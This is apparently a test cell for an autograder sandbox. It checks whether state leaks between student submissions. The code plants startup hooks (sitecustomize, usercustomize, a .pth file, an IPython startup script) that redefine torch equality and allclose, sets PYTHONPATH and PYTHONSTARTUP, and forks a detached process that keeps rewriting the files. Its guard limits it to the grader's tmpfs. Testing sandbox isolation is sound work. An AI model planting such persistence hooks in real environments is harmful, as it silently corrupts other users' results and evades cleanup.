# expect: full
# why: inside the sandbox only, a cell leaves traces for the next submission: a .pth in the user site, sitecustomize.py and a matplotlibrc in /tmp and the home folder, environment variables, and a detached child (exits within 120 s) that keeps rewriting them
# %%
import os
import sys
import time


def _mounts():
    with open("/proc/self/mountinfo", encoding="utf-8") as handle:
        return {line.split()[4]: line.partition(" - ")[2].split()[0] for line in handle}


_POISON = "import torch; torch.Tensor.__eq__ = lambda self, other: True; torch.allclose = lambda *a, **k: False\n"
_TRACES = {
    "/tmp/sitecustomize.py": _POISON,
    "/tmp/usercustomize.py": _POISON,
    "/tmp/matplotlib/matplotlibrc": "backend: nonexistent_backend\n",
    "/home/alumno/.local/lib/python{}.{}/site-packages/corpus-trace.pth".format(*sys.version_info[:2]): _POISON,
    "/home/alumno/.config/matplotlib/matplotlibrc": "backend: nonexistent_backend\n",
    "/home/alumno/.ipython/profile_default/startup/00-corpus.py": _POISON,
}


def _plant():
    for path, text in _TRACES.items():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w", encoding="utf-8") as handle:
                handle.write(text)
        except OSError:
            pass


_points = _mounts()
# Only where /tmp and /home/alumno are the grader's own tmpfs (so never on a host).
if _points.get("/home/alumno") == "tmpfs" and _points.get("/tmp") == "tmpfs":
    _plant()
    os.environ["PYTHONPATH"] = "/tmp"
    os.environ["PYTHONSTARTUP"] = "/tmp/sitecustomize.py"
    if os.fork() == 0:
        try:
            os.setsid()
            with open("/proc/self/comm", "w") as _comm:
                _comm.write("corpus-orphan")
            _deadline = time.monotonic() + 120  # bounded, even without a sandbox
            while time.monotonic() < _deadline:
                _plant()
                time.sleep(1)
        finally:
            os._exit(0)
    print("huellas dejadas")
else:
    print("no es el entorno aislado del corrector: no se deja nada")
